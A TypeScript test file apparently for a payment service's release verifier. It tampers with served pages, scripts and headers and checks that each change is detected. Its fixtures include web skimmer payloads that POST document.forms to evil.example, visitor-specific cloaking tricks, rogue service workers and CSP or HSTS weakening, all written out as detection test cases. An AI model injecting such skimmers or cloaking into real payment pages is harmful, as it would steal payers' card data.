// @vitest-environment node

import * as zlib from 'node:zlib';
import { ANY_REFERENCE } from '@kobo/tooling/deploy/rules';
import { afterEach, describe, expect, it } from 'vitest';
import { ADVICE, type FindingName } from './findings';
import { ORIGIN, type Reply, serve, smallRelease, type Tamper } from './testRelease';
import { verify } from './verify';

const release = smallRelease([/\/assets\/(BankTransferScreen|visa)-/, /^\/kobo-overlay-/]);
let close = async (): Promise<unknown> => undefined;
afterEach(() => close());

async function check(tamper?: Tamper, options: { anySettings?: boolean; staticHost?: boolean } = {}) {
  const server = await serve(release, tamper);
  close = server.close;
  return verify({ address: ORIGIN, inventory: release.inventory, request: server.request, ...options });
}

const CSP = 'content-security-policy';
const APP = release.named(/\/assets\/app-.*\.js$/);
const CHUNK = release.named(/\/assets\/BankTransferScreen-/);
const STYLE = release.named(/\/assets\/app-.*\.css$/);
const MARK = release.named(/\/assets\/visa-.*\.svg$/);
const PINNED = release.named(/^\/kobo-\d.*\.js$/);
const OVERLAY = release.named(/^\/kobo-overlay-/);
/** The page that checks a receipt. */
const CHECK = `/r/${ANY_REFERENCE}`;
const CHECKS = [CHECK, `/payments${CHECK}`];
const RIVAL = 'https://evil.example';

const isPage = ({ headers }: Reply) => headers['content-type'] === release.inventory.page.type;
const ofFile =
  (path: string, change: (reply: Reply) => Reply): Tamper =>
  (reply, request) =>
    request.secure && request.path === path ? change(reply) : reply;
const ofPage =
  (change: (reply: Reply) => Reply): Tamper =>
  (reply, { secure, path }) =>
    secure && isPage(reply) && !CHECKS.includes(path) ? change(reply) : reply;
const html = (from: string | RegExp, to: string) =>
  ofPage((reply) => ({ ...reply, body: Buffer.from(changed(reply.body.toString(), from, to)) }));
const header = (name: string, value: string | string[] | ((now: string) => string)) => (reply: Reply) => ({
  ...reply,
  headers: {
    ...reply.headers,
    [name]: typeof value === 'function' ? value(String(reply.headers[name])) : value,
  },
});
const without = (name: string) => (reply: Reply) => ({
  ...reply,
  headers: Object.fromEntries(Object.entries(reply.headers).filter(([one]) => one !== name)),
});
const text = (from: string | RegExp, to: string) => (reply: Reply) => ({
  ...reply,
  body: Buffer.from(changed(reply.body.toString(), from, to)),
});
const append = (more: string) => (reply: Reply) => ({
  ...reply,
  body: Buffer.concat([reply.body, Buffer.from(more)]),
});
const csp = (from: string | RegExp, to: string) => ofPage(header(CSP, (now) => changed(now, from, to)));
const onlyFor =
  (
    who: (headers: Readonly<Record<string, string | string[] | undefined>>) => boolean,
    tamper: Tamper,
  ): Tamper =>
  (reply, request, of) =>
    who(request.headers) ? tamper(reply, request, of) : reply;
const agent = (pattern: RegExp) => (headers: Readonly<Record<string, string | string[] | undefined>>) =>
  pattern.test(String(headers['user-agent']));

const manyHeaders = (reply: Reply, count: number) => ({
  ...reply,
  headers: {
    ...reply.headers,
    ...Object.fromEntries(Array.from({ length: count }, (_, index) => [`x-${index}`, '1'])),
  },
});

/** Replaces text in a file. Throws if nothing changed, because such a test would prove nothing. */
function changed(before: string, from: string | RegExp, to: string): string {
  const after = before.replace(from, () => to);
  if (after === before) throw new Error(`${from} is not there to be changed.`);
  return after;
}

/**
 * Texts other than `</script>` that change the end of the configuration block in a browser. With `<!--<script>`, the block
 * continues to the app's tag.
 */
const BLOCK_ENDS = ['</SCRIPT>', '</script >', '</script/>', '</sCript\t>', '<!--<script>'];
const inBlock = (end: string) =>
  text(
    /(id="kobo-config">)\s*\{/,
    `id="kobo-config">{}${end}<meta http-equiv="refresh" content="0;url=${RIVAL}"><SCRIPT type="application/json">{`,
  );
const BLOCK_TABLE = BLOCK_ENDS.flatMap((end): [what: string, tamper: Tamper, names: FindingName[]][] => [
  [
    `markup in the configuration, behind ${end}`,
    ofPage(inBlock(end)),
    end.startsWith('<!') ? ['bytes-changed'] : ['meta-added', 'bytes-changed'],
  ],
  [`markup in that of a receipt’s check, behind ${end}`, ofFile(CHECK, inBlock(end)), ['bytes-changed']],
]);

const SKIMMER = `<script>fetch("${RIVAL}",{method:"POST",body:document.forms})</script>`;

/** Each change, the function that makes the change, and the expected findings. */
const TABLE: [what: string, tamper: Tamper, names: FindingName[]][] = [
  // Bytes.
  ['one byte more at the end of the app', ofFile(APP, append('\n')), ['bytes-changed']],
  ['a skimmer behind the app', ofFile(APP, append(`;fetch("${RIVAL}")`)), ['bytes-changed']],
  [
    'another script in place of a chunk',
    ofFile(CHUNK, (reply) => ({ ...reply, body: Buffer.from('0') })),
    ['bytes-changed'],
  ],
  [
    'a chunk that is cut short',
    ofFile(CHUNK, (reply) => ({ ...reply, body: reply.body.subarray(0, 100) })),
    ['bytes-changed'],
  ],
  ['an empty chunk', ofFile(CHUNK, (reply) => ({ ...reply, body: Buffer.alloc(0) })), ['bytes-changed']],
  ['a style that hides the amount', ofFile(STYLE, append('h1{display:none}')), ['bytes-changed']],
  ['a script in a mark', ofFile(MARK, text('<svg', '<svg onload="alert(1)"')), ['bytes-changed']],
  ['another kobo.js', ofFile('/kobo.js', append('0')), ['bytes-changed']],
  [
    'another kobo.js for pages that stay with version 1',
    ofFile('/v1/kobo.js', append('0')),
    ['bytes-changed'],
  ],
  ['another overlay beside it', ofFile(`/v1${OVERLAY}`, append('0')), ['bytes-changed']],
  ['another kobo.mjs', ofFile('/kobo.mjs', append('0')), ['bytes-changed']],
  ['other bytes under a pinned version', ofFile(PINNED, append('0')), ['bytes-changed']],
  ['another overlay', ofFile(OVERLAY, append('0')), ['bytes-changed']],
  [
    'kobo.js that loads its parts without their hashes',
    ofFile('/kobo.js', text(/integrity/g, 'title')),
    ['integrity-removed', 'bytes-changed'],
  ],
  [
    'a brotli form that decompresses to something else',
    onlyFor(
      (headers) => /\bbr\b/.test(String(headers['accept-encoding'])),
      ofFile(APP, (reply) => ({
        ...reply,
        headers: { ...reply.headers, 'content-encoding': 'br' },
        body: zlib.brotliCompressSync('evil()'),
      })),
    ),
    ['bytes-changed', 'served-differently'],
  ],
  [
    'a skimmer for browsers that read zstd',
    onlyFor(
      (headers) => /\bzstd\b/.test(String(headers['accept-encoding'])),
      html('</body>', `${SKIMMER}</body>`),
    ),
    ['inline-script-added', 'bytes-changed', 'served-differently'],
  ],
  [
    'a compression that nobody asked for',
    ofFile(APP, header('content-encoding', 'compress')),
    ['encoding-unknown'],
  ],
  ['a chunk that is gone', ofFile(CHUNK, (reply) => ({ ...reply, status: 404 })), ['file-missing']],
  ['a chunk that can not be served', ofFile(CHUNK, (reply) => ({ ...reply, status: 500 })), ['status']],
  // The page.
  ['an inline skimmer', html('</body>', `${SKIMMER}</body>`), ['inline-script-added', 'bytes-changed']],
  [
    'an inline module',
    html('</head>', '<script type="module">evil()</script></head>'),
    ['inline-script-added', 'bytes-changed'],
  ],
  [
    'an import map',
    html('</head>', '<script type="importmap">{"imports":{}}</script></head>'),
    ['inline-script-added', 'bytes-changed'],
  ],
  [
    'rules of speculation',
    html('</head>', '<script type="speculationrules">{}</script></head>'),
    ['inline-script-added', 'bytes-changed'],
  ],
  [
    'an inline script in capitals',
    html('</body>', '<SCRIPT>evil()</SCRIPT ></body>'),
    ['inline-script-added', 'bytes-changed'],
  ],
  [
    'other code in the inline script',
    html('<script>!function', '<script>evil();!function'),
    ['inline-script-changed', 'bytes-changed'],
  ],
  [
    'the inline script twice',
    ofPage((reply) => ({
      ...reply,
      body: Buffer.from(reply.body.toString().replace(/<script>[\s\S]*?<\/script>/, (one) => one + one)),
    })),
    ['inline-script-added', 'bytes-changed'],
  ],
  ['no inline script', html(/<script>[\s\S]*?<\/script>/, ''), ['inline-script-missing', 'bytes-changed']],
  [
    'a script of another origin',
    html('</head>', `<script src="${RIVAL}/x.js"></script></head>`),
    ['script-added', 'bytes-changed'],
  ],
  [
    'a script of another origin, its address without quotes',
    html('</head>', `<script async src=${RIVAL}/x.js></script></head>`),
    ['script-added', 'bytes-changed'],
  ],
  [
    'a script of this origin that is not of the release',
    html('</head>', '<script src="/assets/x.js"></script></head>'),
    ['script-added', 'bytes-changed'],
  ],
  [
    'the app from another origin',
    html(`src="${APP}"`, `src="${RIVAL}${APP}"`),
    ['script-added', 'script-missing', 'bytes-changed'],
  ],
  ['no app', html(/<script type="module"[^>]*><\/script>/, ''), ['script-missing', 'bytes-changed']],
  [
    'a preloaded module of another origin',
    html('</head>', `<link rel="modulepreload" href="${RIVAL}/x.js"></head>`),
    ['style-added', 'bytes-changed'],
  ],
  [
    'a style sheet of another origin',
    html('</head>', `<link rel="stylesheet" href="${RIVAL}/x.css"></head>`),
    ['style-added', 'bytes-changed'],
  ],
  ['a <base>', html('<head>', `<head><base href="${RIVAL}/">`), ['base-added', 'bytes-changed']],
  [
    'a frame over the form',
    html('</body>', `<iframe src="${RIVAL}"></iframe></body>`),
    ['frame-added', 'bytes-changed'],
  ],
  [
    'a form that is sent elsewhere',
    html('</body>', `<form action="${RIVAL}"><input name="pan"></form></body>`),
    ['form-added', 'bytes-changed'],
  ],
  [
    'an attribute that is code',
    html('<body', '<body onload="evil()"'),
    ['event-handler-added', 'bytes-changed'],
  ],
  [
    'an address that is code',
    html('</body>', '<a href="javascript:evil()">Pay</a></body>'),
    ['event-handler-added', 'bytes-changed'],
  ],
  [
    'a page that leads elsewhere',
    html('<head>', `<head><meta http-equiv="refresh" content="0;url=${RIVAL}">`),
    ['meta-added', 'bytes-changed'],
  ],
  ['another API in the configuration', html('"live": ""', `"live": "${RIVAL}"`), ['config-changed']],
  [
    'another API for those who check a receipt',
    ofFile(CHECK, text('"live": ""', `"live": "${RIVAL}"`)),
    ['config-changed'],
  ],
  ['another script for those who check a receipt', ofFile(CHECK, append(SKIMMER)), ['bytes-changed']],
  [
    'a check of receipts by another policy',
    ofFile(
      CHECK,
      header(CSP, (now) => changed(now, "script-src 'self'", `script-src 'self' ${RIVAL}`)),
    ),
    ['csp-source-added'],
  ],
  ['another text in the page', html('<title>', '<title>Free '), ['bytes-changed']],
  [
    'another page at one kind of address',
    ofFile(`/invoice/${ANY_REFERENCE}`, append(SKIMMER)),
    ['inline-script-added', 'bytes-changed'],
  ],
  [
    'another page where a merchant shows a payment page',
    ofFile(`/payments/page/${ANY_REFERENCE}`, append(SKIMMER)),
    ['inline-script-added', 'bytes-changed'],
  ],
  [
    'another page only for what looks like a payer’s reference',
    (reply, { secure, url }) => (secure && /^\/(payments\/)?CHK_/.test(url) ? append(SKIMMER)(reply) : reply),
    ['inline-script-added', 'bytes-changed'],
  ],
  [
    'a way elsewhere for a payer’s reference, which it passes on',
    (reply, { secure, url }) =>
      secure && url.startsWith('/CHK_')
        ? { ...reply, status: 302, headers: { location: RIVAL + url } }
        : reply,
    ['redirected'],
  ],
  ['another page at the root', ofFile('/', append(SKIMMER)), ['inline-script-added', 'bytes-changed']],
  [
    'another script for those who check a receipt of the pro service',
    ofFile(`/payments${CHECK}`, append(SKIMMER)),
    ['bytes-changed'],
  ],
  [
    'a service worker where a script could be',
    ofFile('/sw.js', (reply) => ({
      ...reply,
      headers: { ...reply.headers, 'content-type': 'text/javascript' },
      body: Buffer.from('onfetch=evil'),
    })),
    ['service-worker-added', 'bytes-changed'],
  ],
  [
    'a newer service worker for devices that have one already',
    onlyFor(
      (headers) => headers['service-worker'] === 'script',
      ofFile('/sw.js', (reply) => ({
        ...reply,
        headers: { ...reply.headers, 'content-type': 'text/javascript' },
        body: Buffer.from('onfetch=evil'),
      })),
    ),
    ['service-worker-added', 'bytes-changed', 'served-differently'],
  ],
  [
    'an app that registers a service worker',
    ofFile(APP, append(';navigator.serviceWorker.register("/x")')),
    ['service-worker-added', 'bytes-changed'],
  ],
  [
    'a script where there is none',
    ofFile('/assets/sw.js', (reply) => ({ ...reply, status: 200, body: Buffer.from('evil()') })),
    ['unexpected-file'],
  ],
  // The policy.
  ['no policy', ofPage(without(CSP)), ['csp-missing']],
  [
    'a policy that only reports',
    ofPage((reply) =>
      header('content-security-policy-report-only', String(reply.headers[CSP]))(without(CSP)(reply)),
    ),
    ['csp-report-only', 'header-added'],
  ],
  ['another source of scripts', csp("script-src 'self'", `script-src 'self' ${RIVAL}`), ['csp-source-added']],
  ['unsafe-inline', csp("script-src 'self'", "script-src 'self' 'unsafe-inline'"), ['csp-source-added']],
  [
    'another address to send to',
    csp("connect-src 'self'", `connect-src 'self' ${RIVAL}`),
    ['csp-source-added'],
  ],
  ['no hash of the inline script', csp(/ 'sha256-[^']*'/, ''), ['csp-source-missing']],
  ['forms that may be sent', csp(/; form-action 'none'/, ''), ['csp-directive-missing']],
  ['text that may become code', csp(/; require-trusted-types-for 'script'/, ''), ['csp-directive-missing']],
  [
    'a policy of Trusted Types',
    csp("trusted-types 'none'", 'trusted-types evil'),
    ['csp-source-added', 'csp-source-missing'],
  ],
  [
    'a second policy',
    ofPage((reply) => header(CSP, [String(reply.headers[CSP]), "default-src 'self'"])(reply)),
    ['header-changed'],
  ],
  [
    'frames of only some pages',
    csp('base-uri', 'frame-ancestors https://a.example; base-uri'),
    ['csp-directive-added'],
  ],
  // Directives that look like the release's directives, but that browsers ignore.
  [
    'a directive with another blank in it, which is none',
    csp("base-uri 'none'", "base-uri\xa0'none'"),
    ['csp-directive-missing', 'csp-directive-added'],
  ],
  [
    'text that may become code, by another blank',
    csp("require-trusted-types-for 'script'", "require-trusted-types-for\xa0'script'"),
    ['csp-directive-missing', 'csp-directive-added'],
  ],
  [
    'a directive more that browsers do not read',
    csp("base-uri 'none'", "base-uri 'none'; \xe9 'none'"),
    ['csp-directive-added'],
  ],
  [
    'permissions in capitals',
    ofPage(header('permissions-policy', (now) => changed(now, 'accelerometer', 'Accelerometer'))),
    ['header-changed'],
  ],
  [
    'permissions with a blank before the sign',
    ofPage(header('permissions-policy', (now) => changed(now, 'accelerometer=', 'accelerometer ='))),
    ['header-changed'],
  ],
  [
    'a page that others hold on to, by capitals',
    ofPage(header('cross-origin-opener-policy', (now) => now.toUpperCase())),
    ['header-changed'],
  ],
  [
    'an overlay that isolated pages may not load, by capitals',
    ofFile(
      OVERLAY,
      header('cross-origin-resource-policy', (now) => now.toUpperCase()),
    ),
    ['header-changed'],
  ],
  [
    'references in the logs of others, by another blank',
    ofPage(header('referrer-policy', (now) => `\xa0${now}`)),
    ['header-changed'],
  ],
  [
    'a page without its charset, by a blank before the sign',
    ofPage(header('content-type', 'text/html; charset =utf-8')),
    ['content-type-changed'],
  ],
  [
    'HSTS by the end of another name',
    header('strict-transport-security', 'x-max-age=31536000; max-age=0'),
    ['hsts-weaker'],
  ],
  [
    'HSTS that says twice for how long',
    header('strict-transport-security', 'max-age=31536000; max-age=0'),
    ['hsts-weaker'],
  ],
  [
    'HSTS within quotes',
    header('strict-transport-security', 'max-age=0; x="; max-age=31536000; y="'),
    ['hsts-weaker'],
  ],
  [
    'HSTS that browsers can not read',
    header('strict-transport-security', 'max-age=31536000; include Sub Domains'),
    ['hsts-weaker'],
  ],
  // Other headers.
  ['no frames at all', ofPage(header('x-frame-options', 'DENY')), ['header-added']],
  ['no HSTS', (reply) => without('strict-transport-security')(reply), ['header-missing']],
  ['HSTS for a minute', header('strict-transport-security', 'max-age=60'), ['hsts-weaker']],
  ['a page that is sniffed', ofPage(without('x-content-type-options')), ['header-missing']],
  ['references in the logs of others', ofPage(header('referrer-policy', 'unsafe-url')), ['header-changed']],
  [
    'the camera',
    ofPage(header('permissions-policy', (now) => changed(now, 'camera=()', 'camera=*'))),
    ['header-changed'],
  ],
  [
    'a page that others hold on to',
    ofPage(header('cross-origin-opener-policy', 'unsafe-none')),
    ['header-changed'],
  ],
  ['a page that is kept', ofPage(header('cache-control', 'public, max-age=86400')), ['header-changed']],
  ['a page out of a cache', ofPage(header('age', '3600')), ['cache-stale']],
  [
    'kobo.js kept for a year',
    ofFile('/kobo.js', header('cache-control', 'public, max-age=31536000, immutable')),
    ['header-changed'],
  ],
  [
    'kobo.js only for pages of this origin',
    ofFile('/kobo.js', without('access-control-allow-origin')),
    ['header-missing'],
  ],
  [
    'an overlay that isolated pages may not load',
    ofFile(OVERLAY, header('cross-origin-resource-policy', 'same-origin')),
    ['header-changed'],
  ],
  ['a script as text', ofFile(APP, header('content-type', 'text/plain')), ['content-type-changed']],
  ['the page without its charset', ofPage(header('content-type', 'text/html')), ['content-type-changed']],
  [
    'a script by a header',
    ofPage(header('link', `<${RIVAL}/x.js>; rel=preload; as=script`)),
    ['header-added'],
  ],
  ['a page that leads elsewhere by a header', ofPage(header('refresh', `0;url=${RIVAL}`)), ['header-added']],
  [
    'another host to visit instead',
    ofPage(header('alt-svc', 'h3=":443"; ma=86400, h2="evil.example:443"; ma=86400')),
    ['header-added'],
  ],
  ...['h3="[2001:db8::1]:443"', 'h3=":443", h2="[2001:db8::1]:443"', 'h2=evil.example:443'].map(
    (services): [what: string, tamper: Tamper, names: FindingName[]] => [
      `another host to visit instead, as ${services}`,
      ofPage(header('alt-svc', services)),
      ['header-added'],
    ],
  ),
  [
    'another host to load kobo.js from',
    ofFile('/kobo.js', header('alt-svc', 'h2="evil.example:443"')),
    ['header-added'],
  ],
  [
    'a page for every query, once one of them is preloaded',
    ofPage(header('no-vary-search', 'params')),
    ['header-added'],
  ],
  [
    'a file that later ones may be made from',
    ofFile(APP, header('use-as-dictionary', 'match="/assets/*"')),
    ['header-added'],
  ],
  ['data that is cleared', ofPage(header('clear-site-data', '"storage"')), ['header-added']],
  [
    'pages that are loaded ahead, by rules elsewhere',
    ofPage(header('speculation-rules', `"${RIVAL}/rules.json"`)),
    ['header-added'],
  ],
  ['a cookie', ofPage(header('set-cookie', 'id=1')), ['header-added']],
  ['a page that others may read', ofPage(header('access-control-allow-origin', '*')), ['header-added']],
  [
    'a wider reach for service workers',
    ofFile(APP, header('service-worker-allowed', '/')),
    ['service-worker-added'],
  ],
  [
    'a page to be saved instead of shown',
    ofPage(header('content-disposition', 'attachment')),
    ['header-added'],
  ],
  ['errors of the network to a stranger', header('nel', '{"report_to":"a","max_age":1}'), ['header-added']],
  [
    'groups of reports to a stranger',
    ofPage(header('report-to', `{"group":"a","max_age":1,"endpoints":[{"url":"${RIVAL}"}]}`)),
    ['header-added'],
  ],
  ['reports to a stranger', ofPage(header('reporting-endpoints', `a="${RIVAL}"`)), ['header-added']],
  [
    'a missing file that is remembered',
    ofFile('/assets/none.js', header('cache-control', 'max-age=3600')),
    ['header-changed'],
  ],
  // Redirects, and answers that differ by visitor.
  [
    'a page elsewhere',
    ofPage((reply) => ({ ...reply, status: 302, headers: { location: `${RIVAL}/` } })),
    ['redirected'],
  ],
  [
    'a script elsewhere',
    ofFile(APP, (reply) => ({ ...reply, status: 301, headers: { location: `${RIVAL}/x.js` } })),
    ['redirected'],
  ],
  [
    'a checkout without TLS',
    (reply, { secure, path }, of) =>
      secure ? reply : { status: 200, headers: {}, body: of.read('/index.html').subarray(0, path.length) },
    ['http-not-redirected'],
  ],
  [
    'a way from http: to another host',
    (reply, { secure }) => (secure ? reply : { ...reply, headers: { location: `${RIVAL}/` } }),
    ['redirected'],
  ],
  [
    'a way from http: to another port',
    (reply, { secure, url }) =>
      secure ? reply : { ...reply, headers: { location: `${ORIGIN}:8443${url}` } },
    ['redirected'],
  ],
  [
    'kobo.js without TLS',
    (reply, { secure, path }, of) =>
      secure || path !== '/kobo.js' ? reply : { status: 200, headers: {}, body: of.read(path) },
    ['http-not-redirected'],
  ],
  [
    'a page without TLS only for a payer’s reference',
    (reply, { secure, url }) =>
      secure || !url.startsWith('/CHK_') ? reply : { status: 200, headers: {}, body: Buffer.from(SKIMMER) },
    ['http-not-redirected'],
  ],
  [
    'a way from http: to http:',
    (reply, { secure }) => (secure ? reply : { ...reply, headers: { location: 'http://pay.example/x' } }),
    ['http-not-redirected'],
  ],
  [
    'a skimmer only for phones',
    onlyFor(agent(/Mobile/), html('</body>', `${SKIMMER}</body>`)),
    ['inline-script-added', 'served-differently', 'bytes-changed'],
  ],
  [
    'a skimmer for everybody but those who check',
    onlyFor((headers) => headers['user-agent'] !== 'kobo-verify', ofFile(APP, append('0'))),
    ['bytes-changed', 'served-differently'],
  ],
  [
    'a skimmer only where it is loaded as a script',
    onlyFor((headers) => headers['sec-fetch-dest'] === 'script', ofFile(APP, append('0'))),
    ['bytes-changed', 'served-differently'],
  ],
  [
    'a kobo.js only for the pages of merchants',
    onlyFor((headers) => headers['sec-fetch-site'] === 'cross-site', ofFile('/kobo.js', append('0'))),
    ['bytes-changed', 'served-differently'],
  ],
  [
    'a kobo.js for those who have it already',
    onlyFor((headers) => headers['if-none-match'] !== undefined, ofFile('/kobo.js', append('0'))),
    ['bytes-changed', 'served-differently'],
  ],
  [
    'a skimmer for newer browsers, by the hints that they send of themselves',
    onlyFor((headers) => headers['sec-ch-ua'] !== undefined, html('</body>', `${SKIMMER}</body>`)),
    ['inline-script-added', 'served-differently', 'bytes-changed'],
  ],
  [
    'a skimmer for whoever speaks HTTP/2, as browsers do',
    (reply, request, of) =>
      request.byHttp2 ? html('</body>', `${SKIMMER}</body>`)(reply, request, of) : reply,
    ['inline-script-added', 'served-differently', 'bytes-changed'],
  ],
  [
    'a skimmer for whoever speaks HTTP/2, behind more headers than Node takes unless told to',
    (reply, request, of) =>
      request.byHttp2 ? manyHeaders(html('</body>', `${SKIMMER}</body>`)(reply, request, of), 1_000) : reply,
    ['inline-script-added', 'served-differently', 'bytes-changed'],
  ],
  [
    'a script for those who come from the page',
    onlyFor((headers) => headers['referer'] === `${ORIGIN}/`, ofFile(APP, append('0'))),
    ['bytes-changed', 'served-differently'],
  ],
  [
    'a skimmer for payers of every shop but one that never sells',
    onlyFor(
      ({ referer = `${ORIGIN}/` }) => ![`${ORIGIN}/`, 'https://shop.example/'].includes(String(referer)),
      html('</body>', `${SKIMMER}</body>`),
    ),
    ['inline-script-added', 'served-differently', 'bytes-changed'],
  ],
  [
    'a style only where it is loaded as one',
    onlyFor((headers) => headers['sec-fetch-dest'] === 'style', ofFile(STYLE, append('h1{display:none}'))),
    ['bytes-changed', 'served-differently'],
  ],
  [
    'a skimmer only within a frame of another site',
    onlyFor((headers) => headers['sec-fetch-dest'] === 'iframe', html('</body>', `${SKIMMER}</body>`)),
    ['inline-script-added', 'served-differently', 'bytes-changed'],
  ],
  [
    'a skimmer only in a window of its own',
    onlyFor((headers) => headers['sec-fetch-dest'] === 'document', html('</body>', `${SKIMMER}</body>`)),
    ['inline-script-added', 'served-differently', 'bytes-changed'],
  ],
  [
    'an early hint that leads to a stranger',
    ofPage((reply) => ({ ...reply, hints: { link: `<${RIVAL}/>; rel=preconnect` } })),
    ['header-added'],
  ],
  [
    'a skimmer where the address has a query, as kobo.js writes one',
    (reply, { url, secure }) =>
      secure && /[?&]lang=/.test(url)
        ? { ...reply, body: Buffer.from(changed(reply.body.toString(), '</body>', `${SKIMMER}</body>`)) }
        : reply,
    ['inline-script-added', 'bytes-changed'],
  ],
  [
    'a weaker policy for desktops',
    onlyFor(agent(/Macintosh/), ofPage(without(CSP))),
    ['csp-missing', 'served-differently'],
  ],
  ...BLOCK_TABLE,
];

describe('a tampered release', () => {
  it.each(TABLE)('is detected: %s', async (_what, tamper, names) => {
    const { outcome, findings } = await check(tamper);
    expect(outcome).toBe('differs');
    expect([...new Set(findings.map(({ name }) => name))].sort()).toEqual([...names].sort());
  });

  it.each(BLOCK_TABLE)('is detected even if settings are not compared: %s', async (_what, tamper, names) => {
    const { outcome, findings } = await check(tamper, { anySettings: true });
    expect(outcome).toBe('differs');
    expect([...new Set(findings.map(({ name }) => name))].sort()).toEqual([...names].sort());
  });

  it('has at least sixty cases, which cover all findings but two', () => {
    expect(TABLE.length).toBeGreaterThanOrEqual(60);
    expect(new Set(TABLE.map(([what]) => what)).size).toBe(TABLE.length);
    const found = new Set(TABLE.flatMap(([, , names]) => names));
    const rest = Object.keys(ADVICE).filter((name) => !found.has(name as FindingName));
    expect(rest.sort()).toEqual(['certificate-invalid', 'stale-page']);
  });
});

/** Node has supported zstd since 22.15. Earlier versions can neither send nor check a reply in zstd. */
const { zstdCompressSync } = zlib as { zstdCompressSync?: typeof zlib.brotliCompressSync };

const inZstd = onlyFor(
  (headers) => /\bzstd\b/.test(String(headers['accept-encoding'])),
  (reply) => ({
    ...header('content-encoding', 'zstd')(reply),
    body: zstdCompressSync?.(reply.body) ?? Buffer.from('zstd'),
  }),
);

/** Changes by servers and proxies that don't affect the release. */
const HARMLESS: [what: string, tamper: Tamper][] = [
  ['nothing', (reply) => reply],
  ['a name of the server', header('server', 'nginx')],
  ['a validator', header('etag', '"1"')],
  ['a date', header('last-modified', 'Mon, 02 Mar 2026 09:15:00 GMT')],
  ['what it depends on', header('vary', 'Accept-Encoding')],
  ['HTTP/3 on the same host', header('alt-svc', 'h3=":443"; ma=86400')],
  [
    'services on the same host, and versions of them',
    header('alt-svc', 'h3=":443"; ma=86400, quic=":443"; ma="86400"; v="46,43"'),
  ],
  ['no other services', header('alt-svc', 'clear')],
  ...(zstdCompressSync ? [['zstd, where it is asked for', inZstd] satisfies (typeof HARMLESS)[number]] : []),
  ['the name of a proxy on the way', header('via', '1.1 varnish')],
  ['a number of the request', header('x-request-id', '7')],
  ['a file out of a cache', ofFile(APP, header('age', '3600'))],
  [
    'HSTS for longer, and for names below',
    header('strict-transport-security', 'max-age=63072000; includeSubDomains; preload'),
  ],
  [
    'HSTS in another spelling',
    header('strict-transport-security', 'Max-Age = "31536000" ;includeSubDomains;'),
  ],
  [
    'permissions with other blanks between them',
    ofPage(header('permissions-policy', (now) => changed(now, /, /g, ' ,'))),
  ],
  [
    'types in other letters',
    (reply) => header('content-type', (now) => now.replace('; charset=utf-8', ';charset=UTF-8'))(reply),
  ],
];

describe('a check', () => {
  it('sends the address of a different shop as its referrer each time', async () => {
    const shops = new Set<string>();
    const listen: Tamper = (reply, { headers }) => {
      if (headers['sec-fetch-dest'] === 'iframe') shops.add(String(headers['referer']));
      return reply;
    };
    await check(listen);
    await close();
    await check(listen);
    expect(shops.size).toBe(2);
    for (const shop of shops) expect(new URL(shop).pathname).toBe('/');
  });

  it('requests a different reference each time, which looks like a payer’s', async () => {
    const requests = new Set<string>();
    const listen: Tamper = (reply, { url }) => {
      requests.add(url);
      return url.startsWith('/CHK_') ? { ...reply, status: 302, headers: { location: RIVAL + url } } : reply;
    };
    const one = await check(listen);
    await close();
    const other = await check(listen);
    expect([...requests].filter((url) => url.includes(ANY_REFERENCE))).toEqual([]);
    const references = [...requests].filter((url) => /^\/payments\/CHK_[0-9a-f]{18}$/.test(url));
    expect(references).toHaveLength(2);
    // The findings are the same for every reference, and name the inventory's path.
    expect(one.findings).toEqual(other.findings);
    expect(one.findings[0]).toMatchObject({
      where: `/${ANY_REFERENCE}`,
      message: `redirects to ${RIVAL}/${ANY_REFERENCE}`,
    });
  });
});

describe('an unreadable response', () => {
  it('in zstd never counts as a match, even if all others do', async () => {
    const { outcome, unchecked } = await check((reply, request, of) => {
      const offersZstd = /\bzstd\b/.test(String(request.headers['accept-encoding']));
      return request.path === APP && offersZstd ? inZstd(append('0')(reply), request, of) : reply;
    });
    expect(outcome).toBe(zstdCompressSync ? 'differs' : 'unknown');
    const reason = 'the answer is in zstd, which needs Node 22.15 or newer';
    expect(unchecked).toEqual(zstdCompressSync ? [] : [{ where: APP, reason }]);
  });

  it('over HTTP/2 makes the outcome unknown, even if HTTP/1.1 matches', async () => {
    const { outcome, findings, unchecked } = await check((reply, request) =>
      request.byHttp2 && request.path === APP ? manyHeaders(append('0')(reply), 2_100) : reply,
    );
    expect([outcome, findings]).toEqual(['unknown', []]);
    expect(unchecked.map(({ where }) => where)).toEqual([APP]);
  });
});

describe('a static host', () => {
  const OWN = `<${APP}>; rel="modulepreload", <${STYLE}>; rel=preload; as=style`;
  const hosted = (added: Record<string, string>): Tamper =>
    ofPage((reply) => ({ ...reply, headers: { ...reply.headers, ...added } }));

  it('raises no alarm with the headers that it adds to every page', async () => {
    const adds = hosted({
      link: OWN,
      age: '812',
      'access-control-allow-origin': '*',
      'cache-control': 'public, max-age=0, must-revalidate',
    });
    expect(await check(adds, { staticHost: true })).toMatchObject({ outcome: 'same', findings: [] });
    expect((await check(adds)).outcome).toBe('differs');
  });

  it.each([
    { link: `<${RIVAL}/x.js>; rel=preload` },
    { link: `</assets/x.js>; rel=preload, <//evil.example/x.js>; rel=modulepreload` },
    { link: '</x>; rel=prerender' },
    { 'access-control-allow-origin': RIVAL },
    { 'cache-control': 'max-age=0, stale-while-revalidate=31536000' },
    { 'cache-control': 'no-cache="set-cookie", max-age=86400' },
    { 'cache-control': 'max-age=00' },
  ])('is detected if it adds other headers: %j', async (added) => {
    expect((await check(hosted(added), { staticHost: true })).outcome).toBe('differs');
  });
});

describe('a release without changes', () => {
  it('raises no alarm for a reporting address if the settings are not compared', async () => {
    const to = 'https://reports.example/kobo';
    const reporting = ofPage((reply) => {
      const policy = `${reply.headers[CSP]}; report-uri ${to}; report-to kobo`;
      const made = { 'reporting-endpoints': `kobo="${to}"`, [CSP]: policy };
      const only = 'blocked-destinations=(script), endpoints=(kobo)';
      return {
        ...reply,
        headers: { ...reply.headers, ...made, 'integrity-policy-report-only': only },
      };
    });
    const onCheck: Tamper = (reply, request, of) => {
      const isCheck = CHECKS.includes(request.path) && request.secure;
      return isCheck ? reporting(reply, { ...request, path: '/' }, of) : reporting(reply, request, of);
    };
    expect(await check(onCheck, { anySettings: true })).toMatchObject({ outcome: 'same', findings: [] });
    expect((await check(onCheck)).outcome).toBe('differs');
  });

  it('raises no alarm if a static host adds network error reports', async () => {
    const group = '{"group":"cf-nel","max_age":604800,"endpoints":[{"url":"https://nel.example/report"}]}';
    const reporting: Tamper = (reply) =>
      header('nel', '{"report_to":"cf-nel"}')(header('report-to', group)(reply));
    expect(await check(reporting, { staticHost: true })).toMatchObject({ outcome: 'same', findings: [] });
  });

